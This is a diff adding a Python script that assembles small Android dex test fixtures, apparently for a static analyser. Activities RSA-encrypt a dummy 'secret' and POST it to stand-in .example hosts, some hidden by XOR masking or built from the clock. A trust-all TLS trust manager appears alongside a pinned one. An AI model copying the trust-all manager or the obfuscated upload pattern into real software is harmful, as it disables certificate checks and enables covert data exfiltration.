@@ -1,0 +1,159 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""Makes small dex files, one shape of code each, by assembling the smali below with smali. The key was made for this file
+alone (openssl genpkey, 1024 bits); its SubjectPublicKeyInfo has the SHA-256 93a416cca36cda1801eff3f88dc4c0f0f4991aa6d05de4dd35fad386cc453d09."""
+import pathlib
+import subprocess
+import tempfile
+
+here = pathlib.Path(__file__).resolve().parent
+KEY = "MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQDUN00pIJw1+cabbz9NMxsDsB/PXe+JXWd5YWrmBpMXk93CZtTj7PZrfOaIibt4OQg9uf+GAQuxTN4Eec9gFYHWg9Q2gu3QMDTqJaH1yvTVfmCLUIbhTg9RGEVIpi9aFLsUrFiFRuBDZzaC4WGlE20DFdYR7kwdKwNRKqO4G/dYKwIDAQAB"
+
+SEAL = """
+.method static seal([B)[B
+    .registers 6
+    const-string v0, "%(key)s"
+    const/4 v1, 0x0
+    invoke-static {v0, v1}, Landroid/util/Base64;->decode(Ljava/lang/String;I)[B
+    move-result-object v0
+    new-instance v1, Ljava/security/spec/X509EncodedKeySpec;
+    invoke-direct {v1, v0}, Ljava/security/spec/X509EncodedKeySpec;-><init>([B)V
+    const-string v0, "RSA"
+    invoke-static {v0}, Ljava/security/KeyFactory;->getInstance(Ljava/lang/String;)Ljava/security/KeyFactory;
+    move-result-object v0
+    invoke-virtual {v0, v1}, Ljava/security/KeyFactory;->generatePublic(Ljava/security/spec/KeySpec;)Ljava/security/PublicKey;
+    move-result-object v0
+    const-string v1, "RSA/ECB/PKCS1Padding"
+    invoke-static {v1}, Ljavax/crypto/Cipher;->getInstance(Ljava/lang/String;)Ljavax/crypto/Cipher;
+    move-result-object v1
+    const/4 v2, 0x1
+    invoke-virtual {v1, v2, v0}, Ljavax/crypto/Cipher;->init(ILjava/security/Key;)V
+    invoke-virtual {v1, p0}, Ljavax/crypto/Cipher;->doFinal([B)[B
+    move-result-object v0
+    return-object v0
+.end method
+""" % {"key": KEY}
+
+POST = """
+.method static post(Ljava/lang/String;[B)V
+    .registers 4
+    new-instance v0, Ljava/net/URL;
+    invoke-direct {v0, p0}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
+    invoke-virtual {v0}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
+    move-result-object v0
+    invoke-virtual {v0}, Ljava/net/URLConnection;->getOutputStream()Ljava/io/OutputStream;
+    move-result-object v0
+    invoke-virtual {v0, p1}, Ljava/io/OutputStream;->write([B)V
+    return-void
+.end method
+"""
+
+# A text under a one-byte mask, opened by a loop.
+XOR = """
+.method static open([B)Ljava/lang/String;
+    .registers 4
+    const/4 v0, 0x0
+    :again
+    array-length v1, p0
+    if-ge v0, v1, :done
+    aget-byte v1, p0, v0
+    xor-int/lit8 v1, v1, 0x5a
+    int-to-byte v1, v1
+    aput-byte v1, p0, v0
+    add-int/lit8 v0, v0, 0x1
+    goto :again
+    :done
+    new-instance v0, Ljava/lang/String;
+    invoke-direct {v0, p0}, Ljava/lang/String;-><init>([B)V
+    return-object v0
+.end method
+"""
+
+
+def activity(body, registers=6, extra=""):
+    return (".class public Lt/Main;\n.super Landroid/app/Activity;\n"
+            ".method public constructor <init>()V\n    .registers 1\n    invoke-direct {p0}, Landroid/app/Activity;-><init>()V\n    return-void\n.end method\n"
+            f".method protected onCreate(Landroid/os/Bundle;)V\n    .registers {registers}\n{body}\n    return-void\n.end method\n" + SEAL + POST + XOR + extra)
+
+
+SEND = """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    invoke-static {v0, v1}, Lt/Main;->post(Ljava/lang/String;[B)V
+"""
+masked = ", ".join(f"{(ord(c) ^ 0x5a):#x}t" for c in "http://hidden.example:8080/p")
+TRUST = """.class public Lt/Trust;
+.super Ljava/lang/Object;
+.implements Ljavax/net/ssl/X509TrustManager;
+.method public constructor <init>()V
+    .registers 1
+    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
+    return-void
+.end method
+.method public checkServerTrusted([Ljava/security/cert/X509Certificate;Ljava/lang/String;)V
+    .registers 6
+%s
+    return-void
+.end method
+.method public checkClientTrusted([Ljava/security/cert/X509Certificate;Ljava/lang/String;)V
+    .registers 3
+    return-void
+.end method
+.method public getAcceptedIssuers()[Ljava/security/cert/X509Certificate;
+    .registers 2
+    const/4 v0, 0x0
+    return-object v0
+.end method
+"""
+PIN = """    const/4 v0, 0x0
+    aget-object v0, p1, v0
+    invoke-virtual {v0}, Ljava/security/cert/X509Certificate;->getPublicKey()Ljava/security/PublicKey;
+    move-result-object v0
+    invoke-interface {v0}, Ljava/security/PublicKey;->getEncoded()[B
+    move-result-object v0
+    const-string v1, "SHA-256"
+    invoke-static {v1}, Ljava/security/MessageDigest;->getInstance(Ljava/lang/String;)Ljava/security/MessageDigest;
+    move-result-object v1
+    invoke-virtual {v1, v0}, Ljava/security/MessageDigest;->digest([B)[B
+    move-result-object v0
+    const/4 v1, 0x2
+    invoke-static {v0, v1}, Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;
+    move-result-object v0
+    const-string v1, "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8="
+    invoke-virtual {v0, v1}, Ljava/lang/String;->equals(Ljava/lang/Object;)Z
+    move-result v0
+    if-nez v0, :good
+    new-instance v0, Ljava/security/cert/CertificateException;
+    invoke-direct {v0}, Ljava/security/cert/CertificateException;-><init>()V
+    throw v0
+    :good"""
+
+shapes = {
+    "constant": [activity('    const-string v0, "http://plain.example:8080/in"\n' + SEND)],
+    "xor_decoder": [activity(f"    const/16 v0, {len('http://hidden.example:8080/p')}\n    new-array v0, v0, [B\n    fill-array-data v0, :data\n"
+                             "    invoke-static {v0}, Lt/Main;->open([B)Ljava/lang/String;\n    move-result-object v0\n" + SEND
+                             + "    return-void\n    nop\n    :data\n    .array-data 1\n        " + masked.replace(", ", "\n        ") + "\n    .end array-data\n")],
+    "not_tied": [activity('    const-string v0, "https://news.example/feed"\n    const/4 v1, 0x0\n    invoke-static {v0, v1}, Lt/Main;->post(Ljava/lang/String;[B)V\n'
+                          '    const-string v1, "secret"\n    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B\n    move-result-object v1\n    invoke-static {v1}, Lt/Main;->seal([B)[B\n')],
+    "unknown_branch": [activity('    const-string v0, "https://one.example/"\n    if-nez p1, :join\n    const-string v0, "https://two.example/"\n    :join\n' + SEND)],
+    "from_the_clock": [activity('    new-instance v0, Ljava/lang/StringBuilder;\n    const-string v1, "https://d"\n    invoke-direct {v0, v1}, Ljava/lang/StringBuilder;-><init>(Ljava/lang/String;)V\n'
+                                "    invoke-static {}, Ljava/lang/System;->currentTimeMillis()J\n    move-result-wide v1\n"
+                                "    invoke-virtual {v0, v1, v2}, Ljava/lang/StringBuilder;->append(J)Ljava/lang/StringBuilder;\n"
+                                '    const-string v1, ".example/"\n    invoke-virtual {v0, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;\n'
+                                "    invoke-virtual {v0}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;\n    move-result-object v0\n" + SEND, 8)],
+    "endless_loop": [activity('    :again\n    const-string v0, "https://after.example/"\n    goto :again\n', 6,
+                              "\n.method public onResume()V\n    .registers 6\n    const-string v0, \"https://later.example/\"\n" + SEND + "    return-void\n.end method\n")],
+    "endless_recursion": [activity("    invoke-virtual {p0, p1}, Lt/Main;->onCreate(Landroid/os/Bundle;)V\n" + '    const-string v0, "https://deep.example/"\n' + SEND)],
+    "trust_all": [TRUST % ""],
+    "pin": [TRUST % PIN],
+}
+
+with tempfile.TemporaryDirectory() as folder:
+    for name, sources in shapes.items():
+        root = pathlib.Path(folder) / name
+        root.mkdir()
+        for number, source in enumerate(sources):
+            (root / f"{number}.smali").write_text(source)
+        subprocess.run(["smali", "assemble", "-o", str(here / f"{name}.dex"), str(root)], check=True)
